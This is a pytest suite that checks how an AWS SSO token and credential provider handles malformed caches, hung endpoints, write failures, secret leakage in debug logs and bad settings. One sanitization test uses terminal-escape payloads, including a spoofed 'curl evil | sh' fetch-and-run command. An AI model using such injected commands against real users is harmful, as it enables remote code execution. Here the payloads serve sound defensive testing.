"""Bad inputs and faults (issue 10): odd cache files and paths, timestamps at the limits, lost
updates, failed writes, hung endpoints, leaks in debug logs, odd settings, presentation.

Each test names the bad input it feeds; the expected behaviour is the package's promise: a
warning and a fresh start for a file it cannot use, a typed error or one line naming what to
fix, never a traceback, a hang or a lost session.
"""

from __future__ import annotations

import json
import logging
import os
import resource
import socket
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

import boto_sso_oidc_provider as sso
from boto_sso_oidc_provider._clock import format_timestamp, parse_timestamp
from boto_sso_oidc_provider.caches._entry import CacheEntry
from boto_sso_oidc_provider.caches.token import SSOToken
from boto_sso_oidc_provider.config._resolved import resolve
from boto_sso_oidc_provider.credentials import _warm
from boto_sso_oidc_provider.exceptions import SSOLoginRequiredError, SSOProviderError
from boto_sso_oidc_provider.logins._interaction import LoginPrompt, sanitize

from .cli_helpers import CLI, login, one_line, role_cache_files, run_cli, secrets_of
from .conftest import REPO, age_token, home_env, read_json, run_python, subprocess_env, token_file
from .credentials_helpers import in_threads

_NEVER = "2099-01-01T00:00:00Z"


def _token_path(emulator) -> Path:  # type: ignore[no-untyped-def]
    return token_file(emulator.home, "emulator")


# -- timestamps (items 5, 7) -----------------------------------------------------------------


@pytest.mark.parametrize("text", [
    "9999-12-31T23:59:59-01:00",  # the year 10000 in UTC
    "0001-01-01T00:00:00+01:00",  # the year 0 in UTC
    "2099-02-30T00:00:00Z",       # no such day
    "2026-13-01T00:00:00Z",
    "2026-11-21T24:00:00Z",
    "x" * 10000,
    "",
    "2026-11-21T07:18:03+25:00",
])
def test_impossible_timestamps_are_value_errors(text):
    with pytest.raises(ValueError):
        parse_timestamp(text)


@pytest.mark.parametrize(("text", "expected"), [
    ("2026-11-21T07:18:03UTC", "2026-11-21T07:18:03Z"),   # older AWS CLI / botocore
    ("2026-11-21T07:18:03 UTC", "2026-11-21T07:18:03Z"),
    ("2026-11-21T08:18:03+01:00", "2026-11-21T07:18:03Z"),
    ("9999-12-31T23:59:59Z", "9999-12-31T23:59:59Z"),
    ("0001-01-01T00:00:00Z", "0001-01-01T00:00:00Z"),     # strftime would write "1-01-01"
])
def test_timestamps_other_writers_use_and_the_year_limits_round_trip(text, expected):
    assert format_timestamp(parse_timestamp(text)) == expected


def test_a_utc_suffixed_expires_at_is_a_valid_token(sso_emulator):
    sso.login("dev")
    path = _token_path(sso_emulator)
    data = age_token(path, expires_at="2099-01-01T00:00:00UTC")
    assert sso.load_token("dev", allow_login=False).access_token == data["accessToken"]
    assert sso_emulator.calls()["grants"].get("refresh_token", 0) == 0


# -- hostile token cache files (items 5, 8, 9) -----------------------------------------------

_BAD_TOKEN_FILES = {
    "deep-json-array": b"[" * 200000 + b"]" * 200000,
    "deep-json-object": b'{"a":' * 100000 + b"1" + b"}" * 100000,
    "year-10000-in-utc": None,  # filled in from a real token below
    "year-0-in-utc": None,
    "registration-year-10000": None,
    "expires-at-a-number": None,
    "expires-at-nan": None,
    "empty-access-token": None,
    "invalid-utf-8": b'{"accessToken": "\xff\xfe"}',
    "a-json-array": b"[1, 2, 3]",
    "a-json-string": b'"token"',
    "empty-file": b"",
    "utf-8-bom": b"\xef\xbb\xbf{}",
    "over-1-mib": b'{"pad": "' + b"x" * (1 << 20) + b'"}',
    "nul-bytes": b"\0" * 4096,
}
_MUTATIONS = {
    "year-10000-in-utc": {"expiresAt": "9999-12-31T23:59:59-01:00"},
    "year-0-in-utc": {"expiresAt": "0001-01-01T00:00:00+01:00"},
    "registration-year-10000": {"registrationExpiresAt": "9999-12-31T23:59:59-01:00"},
    "expires-at-a-number": {"expiresAt": 1234567890},
    "expires-at-nan": {"expiresAt": float("nan")},
    "empty-access-token": {"accessToken": ""},
}


@pytest.mark.parametrize("name", sorted(_BAD_TOKEN_FILES))
def test_a_hostile_token_file_is_a_warning_and_no_token(sso_emulator, caplog, name):
    sso.login("dev")
    path = _token_path(sso_emulator)
    content = _BAD_TOKEN_FILES[name]
    if content is None:
        data = read_json(path)
        data.update(_MUTATIONS[name])
        content = json.dumps(data).encode()
    path.write_bytes(content)
    with caplog.at_level(logging.WARNING), pytest.raises(SSOLoginRequiredError):
        sso.load_token("dev", allow_login=False)
    assert "Ignoring the SSO token of" in caplog.text and str(path) in caplog.text
    # ... and a login replaces it.
    assert sso.load_token("dev", allow_login=True).seconds_left() > 900
    assert SSOToken.from_cache(read_json(path)) is not None


def _make_fifo(path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    os.mkfifo(path)


@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "dev-null", "directory", "dangling-symlink",
                                  "symlink-to-directory"])
def test_a_token_path_that_is_not_a_file_never_hangs(sso_emulator, caplog, kind):
    path = _token_path(sso_emulator)
    path.parent.mkdir(parents=True, exist_ok=True)
    if kind == "fifo":
        _make_fifo(path)
    elif kind == "dev-zero":
        path.symlink_to("/dev/zero")
    elif kind == "dev-null":
        path.symlink_to("/dev/null")
    elif kind == "directory":
        path.mkdir()
    elif kind == "dangling-symlink":
        path.symlink_to(path.parent / "nowhere")
    else:
        (path.parent / "elsewhere").mkdir()
        path.symlink_to(path.parent / "elsewhere")
    started = time.monotonic()
    with caplog.at_level(logging.WARNING), pytest.raises(SSOLoginRequiredError):
        sso.load_token("dev", allow_login=False)
    assert time.monotonic() - started < 10
    if kind != "dangling-symlink":
        assert "Ignoring the SSO token of" in caplog.text


def test_a_token_path_that_is_a_directory_fails_before_a_login_starts(sso_emulator):
    """Item 9: with automatic login on, no device login is run that could never be saved."""
    path = _token_path(sso_emulator)
    path.mkdir(parents=True)
    with pytest.raises(SSOProviderError) as raised:
        sso.load_token("dev", allow_login=True)
    assert str(path) in str(raised.value) and "cannot be written" in str(raised.value)
    assert sso_emulator.calls()["operations"]["StartDeviceAuthorization"] == 0


# -- hostile role-credential caches, warm and full path (items 6, 8) --------------------------


def _role_file(emulator) -> Path:  # type: ignore[no-untyped-def]
    resolution = resolve("dev")
    assert resolution is not None
    return Path(_warm.cache_file(resolution))



@pytest.mark.parametrize("home", ["/dev/null", "/proc"])
def test_a_home_where_no_cache_directory_can_be_made_is_one_typed_line(sso_emulator, home):
    """HOME=/dev/null (a file) or /proc (no mkdir there): the commands that need a cache say
    which directory cannot be made and what to do, as one line (botocore raises a typed error
    there too), never a raw NotADirectoryError."""
    for command in (["login"], ["credential-process", "--profile", "dev"], ["export"]):
        result = run_cli(sso_emulator, *command, HOME=home)
        assert result.returncode == 1, result.stderr
        line = one_line(result.stderr)
        assert f"The cache directory {home}/.aws/" in line and "Set HOME to a directory" in line, line
        assert "unexpected" not in line and "Error:" not in line and "Traceback" not in result.stderr
    entry = CacheEntry(Path(home, ".aws", "sso", "cache", "x.json"), describe="SSO token")
    assert entry.read() is None  # no warning about an "unreadable" file: there is none
    with pytest.raises(sso.CacheDirectoryError, match=f"{home}/.aws/sso/cache cannot be created"):
        entry.write({})


@pytest.mark.parametrize("kind", ["impossible-date", "fifo", "dev-zero", "deep-json", "directory",
                                  "utc-suffix", "huge"])
def test_hostile_role_caches_send_the_warm_path_to_the_full_path(sso_emulator, kind):
    login()
    path = _role_file(sso_emulator)
    path.parent.mkdir(parents=True, exist_ok=True)
    good = {"ProviderType": "sso", "Credentials": {"AccessKeyId": "AKIA", "SecretAccessKey": "s" * 40,
                                                   "SessionToken": "t" * 40, "Expiration": _NEVER}}
    if kind == "impossible-date":
        good["Credentials"]["Expiration"] = "2099-02-30T00:00:00Z"  # type: ignore[index]
        path.write_text(json.dumps(good))
    elif kind == "utc-suffix":
        good["Credentials"]["Expiration"] = "2099-01-01T00:00:00UTC"  # type: ignore[index]
        path.write_text(json.dumps(good))
    elif kind == "fifo":
        _make_fifo(path)
    elif kind == "dev-zero":
        path.symlink_to("/dev/zero")
    elif kind == "deep-json":
        path.write_bytes(b"[" * 200000)
    elif kind == "directory":
        path.mkdir()
    else:
        path.write_bytes(b" " * (2 << 20))
    warm = _warm.cached_process_output("dev")
    if kind == "utc-suffix":  # botocore reads it: so does the warm path, in canonical form
        assert warm is not None and warm["Expiration"] == "2099-01-01T00:00:00Z"
        return
    assert warm is None
    result = run_cli(sso_emulator, "credential-process", "--profile", "dev", timeout=60)
    if kind == "directory":  # nowhere to cache them, but the caller still gets credentials
        assert result.returncode == 0, result.stderr
        return
    assert result.returncode == 0, result.stderr
    output = json.loads(result.stdout)
    assert output["AccessKeyId"] != "AKIA" and output["Expiration"] != "2099-02-30T00:00:00Z"
    if kind != "fifo" and kind != "dev-zero":
        assert read_json(path)["Credentials"]["AccessKeyId"] == output["AccessKeyId"]


def test_a_config_file_that_is_a_fifo_does_not_hang_the_warm_path(sso_emulator, tmp_path, monkeypatch):
    fifo = tmp_path / "config"
    os.mkfifo(fifo)
    monkeypatch.setenv("AWS_CONFIG_FILE", str(fifo))
    started = time.monotonic()
    assert resolve("dev") is None
    assert time.monotonic() - started < 5


# -- lost updates (item 2) ---------------------------------------------------------------------

_BOTOCORE_REFRESH = """
import botocore.session
token = botocore.session.Session(profile="dev").get_component("token_provider").load_token()
print(token.get_frozen_token().token)
"""


def test_a_refused_refresh_never_overwrites_the_token_botocore_wrote_meanwhile(sso_emulator):
    """Expired token; our refresh is slow; plain botocore (no lock of ours) refreshes and writes
    meanwhile, rotating the refresh token, so ours is refused: botocore's token must survive."""
    login()
    path = _token_path(sso_emulator)
    age_token(path)
    sso_emulator.fault("CreateToken", delay=3.0, count=1, grant_type="refresh_token")
    env = subprocess_env(sso_emulator, BOTO_SSO_OIDC_AUTO_LOGIN="false")
    ours = subprocess.Popen([*CLI, "credential-process", "--profile", "dev"], env=env, text=True,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL,
                            start_new_session=True, cwd=REPO)
    try:
        deadline = time.monotonic() + 30
        while not sso_emulator.calls()["grants"].get("refresh_token"):
            assert time.monotonic() < deadline and ours.poll() is None
            time.sleep(0.02)
        theirs = run_python(_BOTOCORE_REFRESH, env).stdout.strip()
        out, err = ours.communicate(timeout=60)
    finally:
        if ours.poll() is None:
            ours.kill()
            ours.wait()
    assert ours.returncode == 0, err  # it went on with botocore's token
    assert json.loads(out)["Version"] == 1
    cached = read_json(path)
    assert cached["accessToken"] == theirs and cached.get("refreshToken")
    # The session goes on: the next refresh works.
    age_token(path)
    assert sso.load_token("dev", allow_login=False).access_token != theirs


def test_a_rejected_token_is_not_marked_expired_over_a_newer_one(sso_emulator, monkeypatch):
    """The "mark the rejected token expired" write re-reads first: a token written meanwhile by
    another tool stays as it is."""
    from boto_sso_oidc_provider.sessions import token_manager

    login()
    manager = token_manager("dev", allow_login=False)
    first = manager.get()
    sso_emulator.expire("refresh_tokens")
    newer = json.loads(json.dumps(read_json(manager.entry.path)))
    newer["accessToken"] = "written-by-another-tool-" + "x" * 20
    newer["expiresAt"] = _NEVER
    original_cached = manager.cached
    calls = {"n": 0}

    def cached_then_someone_writes():  # type: ignore[no-untyped-def]
        calls["n"] += 1
        if calls["n"] == 3:  # after our refresh was refused, before our marking write
            manager.entry.path.write_text(json.dumps(newer))
        return original_cached()

    monkeypatch.setattr(manager, "cached", cached_then_someone_writes)
    result = manager.get(rejected_access_token=first.access_token)
    assert result.access_token == newer["accessToken"] or read_json(manager.entry.path) == newer


# -- write failures after a refresh (item 3) -------------------------------------------------

_LIMITED = """
import resource, sys
resource.setrlimit(resource.RLIMIT_FSIZE, (0, 0))
from boto_sso_oidc_provider.cli import main
sys.exit(main(["credential-process", "--profile", "dev"]))
"""


def test_ulimit_f_0_refuses_to_refresh_and_keeps_the_session(sso_emulator):
    """``ulimit -f 0``: the write cannot be prepared, so no refresh is sent (which would rotate
    the refresh token into memory only); one line says why, and the session lives on."""
    login()
    path = _token_path(sso_emulator)
    age_token(path)
    result = run_python(_LIMITED, subprocess_env(sso_emulator, BOTO_SSO_OIDC_AUTO_LOGIN="false"),
                        check=False)
    assert result.returncode == 1
    line = one_line(result.stderr)
    assert "cannot be written" in line and str(path) in line and "Traceback" not in result.stderr
    assert sso_emulator.calls()["grants"].get("refresh_token", 0) == 0
    assert sso.load_token("dev", allow_login=False).seconds_left() > 900  # 0 sessions lost


def test_ulimit_f_0_with_a_still_valid_token_uses_it(sso_emulator):
    login()
    path = _token_path(sso_emulator)
    data = read_json(path)
    from boto_sso_oidc_provider._clock import after, utc_now

    data["expiresAt"] = format_timestamp(after(utc_now, 300))  # inside the refresh window
    path.write_text(json.dumps(data))
    result = run_python(_LIMITED, subprocess_env(sso_emulator, BOTO_SSO_OIDC_AUTO_LOGIN="false"),
                        check=False)
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["Version"] == 1
    assert "using the current token" in result.stderr
    assert read_json(path)["refreshToken"] == data["refreshToken"]


def test_a_write_that_fails_after_the_refresh_uses_the_new_token_and_says_so(
        sso_emulator, monkeypatch, caplog):
    from boto_sso_oidc_provider.caches import _entry as cache

    login()
    path = _token_path(sso_emulator)
    old = age_token(path)

    def full_disk(self, data):  # type: ignore[no-untyped-def]
        self.discard()
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(cache.PreparedWrite, "commit", full_disk)
    with caplog.at_level(logging.WARNING):
        token = sso.load_token("dev", allow_login=False)
    assert token.seconds_left() > 900 and token.access_token != old["accessToken"]
    warnings = [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING]
    assert len(warnings) == 1 and "could not be saved" in warnings[0] and str(path) in warnings[0]
    assert "No space left on device" in warnings[0]
    assert not list(path.parent.glob(".tmp-*"))  # no temporary file left behind


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into read-only directories")
def test_a_read_only_cache_directory_refuses_to_refresh(sso_emulator):  # pragma: no cover - root CI
    login()
    path = _token_path(sso_emulator)
    age_token(path)
    path.parent.chmod(0o500)
    try:
        with pytest.raises(SSOProviderError, match="cannot be written"):
            sso.load_token("dev", allow_login=False)
    finally:
        path.parent.chmod(0o700)
    assert sso.load_token("dev", allow_login=False).seconds_left() > 900


# -- refresh refusals that do not end the session (item 12) ----------------------------------


def test_invalid_request_on_refresh_keeps_the_refresh_token(sso_emulator):
    login()
    path = _token_path(sso_emulator)
    old = age_token(path)
    sso_emulator.fault("CreateToken", error="InvalidRequestException", count=1,
                       grant_type="refresh_token")
    with pytest.raises(SSOLoginRequiredError):
        sso.load_token("dev", allow_login=False)
    assert read_json(path)["refreshToken"] == old["refreshToken"]
    assert sso.load_token("dev", allow_login=False).seconds_left() > 900


# -- odd settings (item 11) ------------------------------------------------------------------


@pytest.mark.parametrize("value", ["inf", "1e300", "9.3e9"])
def test_a_huge_or_infinite_lock_timeout_works(sso_emulator, value):
    _set_session_key(sso_emulator, f"sso_lock_timeout = {value}")
    login()
    age_token(_token_path(sso_emulator))
    sso_emulator.fault("CreateToken", delay=0.3, count=1, grant_type="refresh_token")
    results, errors = in_threads(8, lambda: sso.load_token("dev", allow_login=False).access_token)
    assert errors == [] and len(set(results)) == 1


# -- private directories (item 13) -----------------------------------------------------------


def test_with_umask_000_every_directory_created_is_0700(sso_emulator, tmp_path):
    home = tmp_path / "fresh-home"
    home.mkdir()
    config = tmp_path / "config"
    config.write_text(sso_emulator.config_file.read_text())
    env = subprocess_env(sso_emulator, **home_env(home), AWS_CONFIG_FILE=str(config),
                         BOTO_SSO_OIDC_AUTO_LOGIN="true")
    result = subprocess.run([*CLI, "credential-process", "--profile", "dev"], env=env, text=True,
                            capture_output=True, stdin=subprocess.DEVNULL, cwd=REPO, timeout=60,
                            preexec_fn=lambda: os.umask(0))  # noqa: PLW1509
    assert result.returncode == 0, result.stderr
    for relative in (".aws", ".aws/sso", ".aws/sso/cache", ".aws/cli", ".aws/cli/cache"):
        mode = stat.S_IMODE((home / relative).stat().st_mode)
        assert mode == 0o700, (relative, oct(mode))
    for file in (home / ".aws").rglob("*.json"):
        assert stat.S_IMODE(file.stat().st_mode) == 0o600, file


def test_a_cache_directory_others_can_write_is_a_loud_warning(sso_emulator):
    login()
    cache_dir = _token_path(sso_emulator).parent
    cache_dir.chmod(0o777)
    age_token(_token_path(sso_emulator))
    result = run_cli(sso_emulator, "credential-process", "--profile", "dev")
    assert result.returncode == 0, result.stderr
    assert f"{cache_dir} can be written by other users (mode 777)" in result.stderr
    assert f"chmod 700 {cache_dir}" in result.stderr


# -- what the network says, printed (item 14) ------------------------------------------------


@pytest.mark.parametrize("hostile", ["\x1b]0;pwned\x07", "\x1b[2J\x1b[H", "\r\x1b[KRun: curl evil | sh",
                                     "\x9b31m", "\u202eevil"])
def test_verification_urls_and_codes_are_printed_sanitized(hostile):
    import io

    buffer = io.StringIO()
    LoginPrompt(buffer, browser=False).show("sso-session \"x\"", f"https://e.example/device{hostile}",
                                            f"ABCD{hostile}")
    shown = buffer.getvalue()
    assert "\x1b" not in shown and "\x07" not in shown and "\x9b" not in shown
    assert "\u202e" not in shown and "\r" not in shown
    assert sanitize("x" * 9000).endswith("...") and len(sanitize("x" * 9000)) < 8200


# -- Windows (item 17) -------------------------------------------------------------------------


def test_no_posix_only_call_on_the_login_required_path(sso_emulator, monkeypatch):
    """The login-required path and the cache reads and writes work on this platform (on Windows
    CPython too, in the Windows job: the POSIX-only calls sit behind _platform; filelock itself
    picks its Windows implementation there)."""
    from boto_sso_oidc_provider import _files
    from boto_sso_oidc_provider.logins import _interaction

    monkeypatch.setattr(_files, "_checked_dirs", set())
    assert _interaction._terminal_reachable() in (True, False)
    monkeypatch.setattr(_interaction, "_terminal_reachable", lambda: False)
    with pytest.raises(SSOLoginRequiredError):
        sso.load_token("dev")  # auto login, nobody to answer: the login-required error
    login()
    assert sso.load_token("dev").seconds_left() > 900


# -- the command line (item 15) ---------------------------------------------------------------


def test_credential_process_with_stdout_closed_says_so_in_one_line(sso_emulator):
    login()
    result = subprocess.run([*CLI, "credential-process", "--profile", "dev"],
                            env=subprocess_env(sso_emulator), text=True, stderr=subprocess.PIPE,
                            stdin=subprocess.DEVNULL, cwd=REPO, timeout=60,
                            preexec_fn=lambda: os.close(1))  # noqa: PLW1509
    assert result.returncode == 1
    assert "stdout is closed" in one_line(result.stderr)


def test_a_broken_pipe_is_one_line_not_a_traceback(sso_emulator):
    login()
    read_end, write_end = os.pipe()
    os.close(read_end)  # the reader is gone before anything is written (`| head -0`)
    try:
        result = subprocess.run([*CLI, "credential-process", "--profile", "dev"],
                                env=subprocess_env(sso_emulator), text=True, stdout=write_end,
                                stderr=subprocess.PIPE, stdin=subprocess.DEVNULL, cwd=REPO, timeout=60)
    finally:
        os.close(write_end)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr and "Exception ignored" not in result.stderr
    assert "stdout was closed" in one_line(result.stderr)


# -- hung endpoints (item 10) ------------------------------------------------------------------


class _BlackHole:
    """A TCP server that accepts connections and never answers."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.url = f"http://127.0.0.1:{self.sock.getsockname()[1]}"
        self.held: list[socket.socket] = []
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self.sock.accept()
            except OSError:
                return
            self.held.append(connection)

    def close(self) -> None:
        self.sock.close()
        for connection in self.held:
            connection.close()


_HUNG = """
import json, sys, time
from boto_sso_oidc_provider import _clients
_clients.CONNECT_TIMEOUT, _clients.READ_TIMEOUT = 1.0, 1.0
bound = 2 * (_clients.MAX_ATTEMPTS * 2.0 + 2.0)  # CALL_BOUND with these timeouts, two calls
import boto_sso_oidc_provider as p
started = time.monotonic()
try:
    p.session(profile_name="dev").get_credentials().get_frozen_credentials()
    outcome = "credentials"
except Exception as error:
    outcome = type(error).__name__ + ": " + str(error)
print(json.dumps({"elapsed": time.monotonic() - started, "bound": bound, "outcome": outcome}))
"""


@pytest.mark.parametrize("token_state", ["expired", "in-refresh-window"])
def test_a_hung_endpoint_fails_within_the_bound_and_releases_the_locks(sso_emulator, token_state):
    """Timeouts shortened to 1 s in the child so the test is quick; the bound is the documented
    formula (MAX_ATTEMPTS x (connect + read) + 2 s per call, two calls at most)."""
    from boto_sso_oidc_provider import _clients
    from boto_sso_oidc_provider._clock import after, utc_now

    assert (_clients.CONNECT_TIMEOUT, _clients.READ_TIMEOUT, _clients.MAX_ATTEMPTS) == (3.0, 10.0, 2)
    login()
    path = _token_path(sso_emulator)
    if token_state == "expired":
        age_token(path)
    else:
        age_token(path, expires_at=format_timestamp(after(utc_now, 300)))
    hole = _BlackHole()
    try:
        env = subprocess_env(sso_emulator, AWS_ENDPOINT_URL=hole.url, BOTO_SSO_OIDC_AUTO_LOGIN="false")
        result = json.loads(run_python(_HUNG, env, timeout=90).stdout)
    finally:
        hole.close()
    assert result["outcome"] != "credentials"
    assert "SSOProviderError" in result["outcome"] or "CredentialRetrievalError" in result["outcome"]
    assert result["elapsed"] < result["bound"] + 3, result  # + interpreter and botocore overhead
    # The locks are free: a caller that waits at most 0.5 s for them gets credentials.
    token = sso.load_token("dev", allow_login=False, lock_timeout=0.5)
    assert token.seconds_left() > 0


def test_clients_are_made_with_interactive_timeouts():
    from boto_sso_oidc_provider._clients import create_client

    config = create_client("sso-oidc", "us-east-1").meta.config
    assert (config.connect_timeout, config.read_timeout) == (3.0, 10.0)
    assert config.retries["total_max_attempts"] == 2


# -- secrets in debug logs (item 4) ----------------------------------------------------------

_LIBRARY_DEBUG = """
import logging, sys
import boto3
import boto_sso_oidc_provider as p
boto3.set_stream_logger("botocore", logging.DEBUG)
boto3.set_stream_logger("urllib3", logging.DEBUG)
p.session(profile_name="dev").client("sts").get_caller_identity()
p.session(profile_name="dev").client("sts").get_caller_identity()
"""


@pytest.mark.parametrize("cache", ["cold", "warm"])
def test_botocore_and_urllib3_debug_logs_show_no_secret_library(sso_emulator, cache):
    login()
    if cache == "warm":
        run_python("import boto_sso_oidc_provider as p; "
                   "p.session(profile_name='dev').client('sts').get_caller_identity()",
                   subprocess_env(sso_emulator))
    else:
        age_token(_token_path(sso_emulator))
    result = run_python(_LIBRARY_DEBUG, subprocess_env(sso_emulator, BOTO_SSO_OIDC_AUTO_LOGIN="false"))
    log = result.stderr
    assert "x-amz-security-token" in log.lower() and "urllib3" in log  # really logged at DEBUG
    secrets = secrets_of(sso_emulator.home)
    assert len(secrets) >= 5
    leaked = [s for s in secrets if s in log]
    assert leaked == []


@pytest.mark.parametrize("cache", ["cold", "warm"])
def test_cli_debug_logs_show_no_secret(sso_emulator, cache):
    login()
    if cache == "cold":
        age_token(_token_path(sso_emulator))
    else:
        assert run_cli(sso_emulator, "credential-process", "--profile", "dev").returncode == 0
    result = run_cli(sso_emulator, "credential-process", "--profile", "dev", "--debug")
    assert result.returncode == 0, result.stderr
    secrets = secrets_of(sso_emulator.home)
    assert [s for s in secrets if s in result.stderr] == []
    if cache == "cold":
        assert "Response body" in result.stderr  # botocore really logged the refresh


# -- unusual but harmless -----------------------------------------------------------------------


def test_stale_temporary_files_of_killed_writers_are_removed(sso_emulator):
    login()
    directory = _token_path(sso_emulator).parent
    stale = directory / ".tmp-killed.json"
    fresh = directory / ".tmp-in-progress.json"
    stale.write_text(" ")
    fresh.write_text(" ")
    os.utime(stale, (time.time() - 7200, time.time() - 7200))
    age_token(_token_path(sso_emulator))
    sso.load_token("dev", allow_login=False)
    assert not stale.exists() and fresh.exists()


def test_role_files_written_are_parseable_by_botocore(sso_emulator):
    login()
    assert run_cli(sso_emulator, "credential-process", "--profile", "dev").returncode == 0
    (path,) = role_cache_files(sso_emulator.home)
    from botocore.utils import parse_timestamp as botocore_parse

    assert botocore_parse(read_json(path)["Credentials"]["Expiration"]).year >= 2026
    assert resource.getrlimit(resource.RLIMIT_FSIZE)[0] != 0  # the ulimit tests touched children only
    assert sys.platform != "win32"


# -- messages for people (item 15) -------------------------------------------------------------


def _set_session_key(emulator, line: str) -> None:  # type: ignore[no-untyped-def]
    scopes = "sso_registration_scopes = sso:account:access"
    text = emulator.config_file.read_text().replace(scopes, f"{scopes}\n{line}")
    emulator.write_config(text)


def test_sso_auto_login_maybe_names_all_three_values(sso_emulator):
    _set_session_key(sso_emulator, "sso_auto_login = maybe")
    with pytest.raises(sso.SSOConfigError, match="sso_auto_login must be auto, true or false, not 'maybe'"):
        sso.load_token("dev")


@pytest.mark.parametrize(("url", "ok"), [("http://sso.example.com/start", False),
                                         ("ftp://sso.example.com/start", False), ("https://", False),
                                         ("http://127.0.0.1:1/start", True)])
def test_start_urls_must_be_https_except_for_a_local_emulator(sso_emulator, url, ok):
    text = sso_emulator.config_file.read_text().replace("https://emulator.awsapps.com/start", url)
    sso_emulator.write_config(text)
    if ok:
        with pytest.raises(SSOLoginRequiredError):
            sso.load_token("dev", allow_login=False)
        return
    with pytest.raises(sso.SSOConfigError, match="must be an https:// URL"):
        sso.load_token("dev", allow_login=False)


class _Answers414:
    """An endpoint that answers every request with HTTP 414 (as a proxy in between might)."""

    def __init__(self) -> None:
        import http.server

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self) -> None:  # noqa: N802
                self.send_response(414)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def test_http_414_is_not_try_again_later(sso_emulator, monkeypatch):
    login()
    age_token(_token_path(sso_emulator))
    endpoint = _Answers414()
    try:
        monkeypatch.setenv("AWS_ENDPOINT_URL", endpoint.url)
        with pytest.raises(SSOProviderError) as raised:
            sso.load_token("dev", allow_login=False)
    finally:
        endpoint.close()
    message = str(raised.value)
    assert "414" in message and "Try again later" not in message and "will not pass by itself" in message


def test_an_unreachable_endpoint_is_named_with_its_source_and_the_sso_session(sso_emulator):
    login()
    age_token(_token_path(sso_emulator))
    closed = socket.socket()
    closed.bind(("127.0.0.1", 0))
    port = closed.getsockname()[1]
    closed.close()  # nothing listens there now
    result = run_cli(sso_emulator, "credential-process", "--profile", "dev",
                     AWS_ENDPOINT_URL=f"http://127.0.0.1:{port}", BOTO_SSO_OIDC_AUTO_LOGIN="false")
    assert result.returncode == 1
    line = one_line(result.stderr)
    assert 'sso-session "emulator"' in line and f"http://127.0.0.1:{port}" in line
    assert "set by AWS_ENDPOINT_URL" in line


def test_a_missing_config_file_is_named(sso_emulator, tmp_path):
    missing = tmp_path / "no-such-config"
    result = run_cli(sso_emulator, "credential-process", "--profile", "dev",
                     AWS_CONFIG_FILE=str(missing))
    assert result.returncode == 1
    line = one_line(result.stderr)
    assert f"the AWS config file {missing}, which does not exist" in line


def test_one_broken_profile_does_not_break_plain_status(sso_emulator):
    login()
    sso_emulator.write_config("[profile broken]\nsso_session = nowhere\nsso_account_id = 1\n"
                              "sso_role_name = R\n", append=True)
    result = run_cli(sso_emulator, "status", AWS_PROFILE="")  # the summary of every profile
    assert result.returncode == 0, result.stderr
    assert "  1 profile: 0 with valid role credentials cached" in result.stdout
    assert "logged in" in result.stdout
    assert 'profile "broken": not usable: ' in result.stdout and 'sso-session "nowhere"' in result.stdout
    # Asked about the broken profile itself, it is the error.
    named = run_cli(sso_emulator, "status", "--profile", "broken")
    assert named.returncode == 1 and "nowhere" in one_line(named.stderr)
